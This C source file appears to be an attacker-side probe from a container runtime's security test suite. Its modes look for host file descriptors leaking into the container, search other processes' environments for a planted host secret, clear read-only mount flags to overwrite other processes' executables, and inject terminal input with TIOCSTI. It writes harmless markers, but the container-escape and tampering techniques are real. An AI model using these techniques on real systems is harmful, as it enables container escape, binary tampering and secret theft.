/* SPDX-License-Identifier: Apache-2.0 */
/* What an attacker runs in the container; `probe WHAT`. Knows nothing of the runtime. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PATH_SIZE 512

static void make_file(const char *path)
{
	int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0666);

	if (fd >= 0)
		close(fd);
}

/* Calls @look with each other process, for ever. */
static void watch(void (*look)(const char *pid))
{
	make_file("/tmp/up");
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (isdigit(e->d_name[0]) && atoi(e->d_name) != getpid())
				look(e->d_name);
		if (d)
			closedir(d);
	}
}

/* The number behind a key of a file, such as "mnt_id:"; 0 without one. */
static unsigned long long number_in(const char *path, const char *key)
{
	FILE *file = fopen(path, "re");
	unsigned long long found = 0;
	char *line = NULL;
	size_t size = 0;

	while (!found && file && getline(&line, &size, file) > 0)
		if (strncmp(line, key, strlen(key)) == 0)
			found = strtoull(line + strlen(key), NULL, 10);
	free(line);
	if (file)
		fclose(file);
	return found;
}

/* Whether it lies on a mount that is here, too: then it is the container's own. Not by stat: that
 * of /proc/PID/fd fails when the process has ended meanwhile. */
static int is_ours(int fd)
{
	char info[64], key[32];
	unsigned long long mount;

	snprintf(info, sizeof(info), "/proc/self/fdinfo/%d", fd);
	mount = number_in(info, "mnt_id:");
	snprintf(key, sizeof(key), "%llu ", mount);
	return mount && number_in("/proc/self/mountinfo", key);
}

/* Prints what the descriptors of others are: something of the host's file tree is a find. */
static void look_at_fds(const char *pid)
{
	char dir[PATH_SIZE], path[2 * PATH_SIZE], to[PATH_SIZE];
	struct dirent *e;
	ssize_t n;
	DIR *d;
	int fd;

	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	d = opendir(dir);
	while (d && (e = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		/* Its own from here on, whatever the other does with it meanwhile. */
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, to, sizeof(to) - 1);
		to[n > 0 ? n : 0] = '\0';
		if (to[0] == '/' && strncmp(to, "/dev/", 5) != 0 && !is_ours(fd)) {
			printf("%s\n", to);
			fflush(stdout);
		}
		close(fd);
	}
	if (d)
		closedir(d);
}

/* Prints what others have been told in confidence. */
static void look_at_env(const char *pid)
{
	static char data[1 << 16];
	char path[PATH_SIZE];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, data, sizeof(data));
	if (n > 0 && memmem(data, (size_t)n, "SECRET_OF_THE_HOST", 18)) {
		printf("%s\n", path);
		fflush(stdout);
	}
	close(fd);
}

/* A read-only mount that is nobody's could be made writable again by whoever reaches it. */
static void make_writable(int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
}

/* Writes to the program of every process that runs another one than ours. */
static void look_at_exe(const char *pid)
{
	char path[PATH_SIZE];
	struct stat own, st;
	int fd, w;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (stat("/bin/busybox", &own) < 0 || fstat(fd, &st) < 0 ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino) || stat("/bin/probe", &own) < 0 ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino)) {
		close(fd);
		return;
	}
	make_writable(fd);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* While it runs it is busy; it is not when it has ended, and the descriptor stays good. */
	for (int i = 0; i < 1000; i++) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			if (write(w, "owned", 5) == 5)
				make_file("/tmp/owned");
			close(w);
			break;
		}
		if (errno != ETXTBSY)
			break;
		usleep(200);
	}
	close(fd);
}

/* Types into whatever terminal it has got. */
static void push_input(void)
{
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
	char c = '!';

	for (int fd = 0; fd <= 2; fd++)
		if (ioctl(fd, TIOCSTI, &c) == 0)
			printf("pushed by descriptor %d\n", fd);
	if (tty >= 0)
		printf("has the terminal of its caller\n");
	if (ioctl(0, TIOCSCTTY, 1) == 0)
		printf("took the terminal of its caller\n");
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "fds"))
		watch(look_at_fds);
	else if (!strcmp(what, "exe"))
		watch(look_at_exe);
	else if (!strcmp(what, "env"))
		watch(look_at_env);
	else if (!strcmp(what, "tty"))
		push_input();
	else
		return 2;
	return 0;
}
